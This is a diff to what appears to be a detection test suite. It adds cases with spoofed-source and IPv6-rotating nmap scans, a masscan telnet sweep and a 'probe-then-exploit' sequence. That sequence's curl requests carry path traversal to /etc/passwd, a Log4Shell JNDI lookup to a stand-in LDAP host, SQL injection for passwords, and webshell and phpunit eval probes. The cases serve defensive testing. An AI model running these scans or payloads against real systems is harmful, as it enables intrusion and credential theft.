@@ -204,6 +204,48 @@ done; wait`,
       note: 'twenty sources, fifteen paths each',
     },
   ],
+  [
+    'distributed-64',
+    ['campaign'],
+    [SITE],
+    // Every pair of 32 addresses and 6 ports once, in random order, three for each source.
+    `for port in 2375 5601 6379 9200 11211 27017; do for last in $(seq 0 31); do echo $port 198.51.100.$last; done; done | shuf | awk '{n = int((NR - 1) / 3); print "198.18." 64 + n "." 9 + n * 3, $0}' |
+  xargs -P 6 -L 1 bash -c 'nmap -n -Pn -sS --max-retries 0 -e eth0 -S $0 -p $1 $2 > /dev/null'`,
+    {
+      sources: Array.from({ length: 64 }, (_, i) => `198.18.${64 + i}.${9 + i * 3}`),
+      limit: 120,
+      note: 'sixty-four sources in as many /24s, three probes each, no pair probed twice',
+    },
+  ],
+  [
+    'ipv6-rotation',
+    ['vertical'],
+    ['2001:db8:51::11'],
+    `for n in $(seq 1 40); do echo 2001:db8:a:7::$n $((n * 3 + 18)); done |
+  xargs -P 4 -L 1 bash -c 'nmap -6 -n -Pn -sS --max-retries 0 -e eth0 -S $0 -p $1-$(($1 + 2)) 2001:db8:51::11 > /dev/null'`,
+    {
+      sources: Array.from({ length: 40 }, (_, i) => `2001:db8:a:7::${i + 1}`),
+      limit: 90,
+      note: 'a new address of one /64 for every three ports',
+    },
+  ],
+  [
+    'infected-camera',
+    ['horizontal'],
+    ['198.18.200.0/26'],
+    'masscan 198.18.200.0/26 -p 23,2323 --rate 10 --wait 2 -e eth0',
+    { sources: ['198.51.100.12'], inside: 'cam', note: 'a host of the site that scans outwards' },
+  ],
+  [
+    'probe-then-exploit',
+    ['vertical', 'vulnerability'],
+    [APP],
+    `nmap -n -Pn -sS --max-retries 0 -p ${TOP20} ${APP}; sleep 5
+for path in '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd' '/index.php?page=../../../../etc/passwd' '/?x=\${jndi:ldap://203.0.113.9/a}' '/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--' '/shell.php?cmd=id' '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'; do
+  curl -s --path-as-is -g -o /dev/null -A '${BROWSER}' -H 'Host: app.example.com' "http://${APP}$path"; sleep 1
+done`,
+    { note: 'ports first, then requests that a site which answers 200 to everything answers with 200' },
+  ],
   // ---- web
   ['ffuf', ['wordlist'], [WWW], `ffuf -s -t 5 -p 0.1 -u http://www.example.com/FUZZ -w $WORDS/web-500.txt`],
   ['gobuster', ['wordlist'], [WWW], `gobuster dir -q -t 5 -u http://www.example.com -w $WORDS/web-300.txt`],
